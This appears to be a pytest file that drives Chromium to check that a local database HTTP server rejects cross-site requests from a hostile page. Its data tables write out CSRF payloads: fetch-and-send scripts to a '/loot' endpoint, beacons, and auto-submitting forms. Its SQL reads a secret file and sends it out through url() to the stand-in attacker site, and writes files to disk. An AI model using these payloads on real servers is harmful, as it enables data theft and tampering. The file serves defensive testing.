"""A page in a real browser attacks both ports: nothing is read, written or sent.

Its visitor has the server without a password on the same machine: only what the server does about
browsers stands between them. Needs Debian's `chromium` and Python's `playwright`.
"""

import contextlib
import json
import threading
from collections.abc import Iterator
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlencode

import pytest

from infra.chdb_http.browser_guard import page_request

SECRET = "top-secret-of-this-machine"  # noqa: S105 - of a test


def browser_error() -> type[Exception]:
    return pytest.importorskip("playwright.sync_api").Error


class Site:
    """The attacker's own server: it has a page, and keeps what it is asked for and sent."""

    def __init__(self) -> None:
        self.page = self.redirect = ""
        self.asked = list[str]()
        self.headers = dict[str, str]()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.asked.append(self.path)
                site.headers = {name.lower(): value for name, value in self.headers.items()}
                self.send_response(302 if site.redirect else 200)
                if site.redirect:
                    self.send_header("Location", site.redirect)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(site.page.encode())

            do_POST = do_GET  # noqa: N815 - the library's name

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]

    @property
    def loot(self) -> list[str]:
        return [path for path in self.asked if "loot" in path]


def open_site() -> Iterator[Site]:
    site = Site()
    threading.Thread(target=site.server.serve_forever, daemon=True).start()
    yield site
    site.server.shutdown()


site = pytest.fixture(scope="module", name="site")(open_site)
other_site = pytest.fixture(scope="module", name="other_site")(open_site)


@pytest.fixture(scope="module")
def machine(server, tmp_path_factory):
    folder = tmp_path_factory.mktemp("machine")
    (folder / "secret.csv").write_text(f"{SECRET}\n")
    server.sql("CREATE TABLE tutti.victim (a String) ENGINE = MergeTree ORDER BY a")
    server.sql("CREATE VIEW marts.victim AS SELECT a FROM tutti.victim")
    yield folder
    server.sql("DROP VIEW marts.victim")
    server.sql("DROP TABLE tutti.victim SYNC")


IMAGE = "<img src={url} onload='document.title = \"loaded\"'>"
# Several fit on one page.
PARTS = {
    "image": IMAGE,
    "image without referrer": "<meta name=referrer content=no-referrer>" + IMAGE,
    "script": "<script src={url}></script>",
    "style": "<link rel=stylesheet href={url}>",
    "frame": "<iframe src={url}></iframe>",
    "prefetch": "<link rel=prefetch href={url}>",
    "fetch": "<script>fetch({url}).then(r => r.text()).then(t => new Image().src ="
    " '/loot?' + t)</script>",
    "fetch without cors": "<script>fetch({url}, {{mode: 'no-cors'}})</script>",
    "post without cors": "<script>fetch({base}, {{mode: 'no-cors', method: 'POST', body: {sql}}})"
    "</script>",
    "beacon": "<script>navigator.sendBeacon({base}, {sql})</script>",
    "frame without origin": "<iframe sandbox='allow-scripts' srcdoc=\"<img src={bare}>\"></iframe>",
}
# The page ends with the first of these.
WHOLES = {
    "link": "<a id=go href={url}>free tickets</a><script>go.click()</script>",
    "navigation": "<script>location = {url}</script>",
    "window": "<script>window.open({url})</script>",
    "form": "<form id=f method=post enctype=text/plain action={url}><input name=x></form>"
    "<script>f.submit()</script>",
    "form by get": "<form id=f action={base}><input name=query value={attribute}></form>"
    "<script>f.submit()</script>",
}
# Chromium stops some of these by itself.
SOMETIMES = {"frame without origin"}
STATEMENTS = [
    "SELECT a FROM {table}",
    "SELECT * FROM url('http://127.0.0.1:{port}/loot' || file('{folder}/secret.csv'), 'CSV')",
    "INSERT INTO FUNCTION file('{folder}/out.csv', CSV, 'a String') SELECT 'x'",
    "SELECT 'x' INTO OUTFILE '{folder}/out.csv'",
    "INSERT INTO tutti.victim VALUES ('x')",
]


def filled(way: str, base: str, sql: str) -> str:
    """The page of one attack."""
    url = f"{base}?{urlencode({'query': sql})}"
    return way.format(
        url=f'"{url}"',
        bare=url,
        base=f'"{base}"',
        sql=json.dumps(sql),
        attribute=f'"{escape(sql)}"',
    )


@pytest.mark.parametrize("analyst", [False, True])
@pytest.mark.parametrize("way", [*PARTS, *WHOLES])
def test_a_page_can_neither_read_nor_write_nor_send(browser, server, site, machine, way, analyst):
    port = server.analyst_port if analyst else server.port
    table = "marts.victim" if analyst else "tutti.victim"
    pages = [
        filled(
            (PARTS | WHOLES)[way],
            f"http://{host}:{port}/",
            sql.format(folder=machine, port=site.port, table=table),
        )
        for host in ("127.0.0.1", "localhost")
        for sql in STATEMENTS
    ]
    asked, statuses = list[str](), set[int]()
    context = browser.new_context()
    context.on("request", lambda request: asked.append(request.url))
    context.on(
        "response",
        lambda response: statuses.add(response.status) if f":{port}/" in response.url else None,
    )
    for content in ["".join(pages)] if way in PARTS else pages:
        site.page = content
        page = context.new_page()
        page.goto(f"http://127.0.0.1:{site.port}/page")
        page.wait_for_load_state("networkidle")
        assert SECRET not in page.content()
        assert page.title() != "loaded"
    made = 0 if way in SOMETIMES else len(pages)
    for _ in range(300):  # until the attacks are made
        if sum(f":{port}/" in url for url in asked) >= made:
            break
        page.wait_for_timeout(100)
    assert sum(f":{port}/" in url for url in asked) >= made
    assert statuses <= {403}
    context.close()
    assert site.loot == []
    assert [file.name for file in machine.iterdir()] == ["secret.csv"]
    assert server.sql("SELECT count() FROM tutti.victim") == "0"


def test_what_the_visitor_types_is_answered(browser, server):
    """The address bar is no page: an operator may look at a query in the browser."""
    page = browser.new_page()
    response = page.goto(f"http://127.0.0.1:{server.port}/?query=SELECT+41%2B1+FORMAT+Vertical")
    assert response.status == 200
    assert "42" in page.content()


def test_the_browser_says_what_the_guard_looks_at(browser, site, other_site):
    """If Chromium stopped to send these headers, the tests above would pass for another reason."""
    page = browser.new_page()
    site.page = f"<img src=http://127.0.0.1:{other_site.port}/>"
    page.goto(f"http://127.0.0.1:{site.port}/page")
    page.wait_for_load_state("networkidle")
    assert page_request(other_site.headers) == "Sec-Fetch-Site is same-site"
    site.page = f"<img src=http://localhost:{other_site.port}/>"
    page.goto(f"http://127.0.0.1:{site.port}/page")
    page.wait_for_load_state("networkidle")
    assert page_request(other_site.headers) == "Sec-Fetch-Site is cross-site"


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_typed_address_that_redirects_reads_and_changes_nothing(
    browser, server, site, machine, host
):
    """The browser calls it typed: docs/explain/access.md says what that means."""
    page, statuses = browser.new_page(), list[int]()
    page.on("response", lambda response: statuses.append(response.status))
    base = f"http://{host}:{server.port}/"
    for sql in ("SELECT 41 + 1", "INSERT INTO tutti.victim VALUES ('x')"):
        site.redirect = f"{base}?{urlencode({'query': sql})}"
        with contextlib.suppress(browser_error()):  # rows are no page: the browser saves them
            page.goto(f"http://127.0.0.1:{site.port}/")
    site.redirect = ""
    assert statuses == [302, 200, 302, 403]
    assert server.sql("SELECT count() FROM tutti.victim") == "0"
    # A link on a page is not typed, wherever it leads to first.
    site.page, statuses[:] = f"<a id=go href='http://127.0.0.1:{site.port}/'>x</a>", []
    page.goto(f"http://127.0.0.1:{site.port}/page")
    site.redirect = f"{base}?query=SELECT+1"
    page.click("#go")
    page.wait_for_load_state("networkidle")
    site.redirect = ""
    assert statuses[-1] == 403
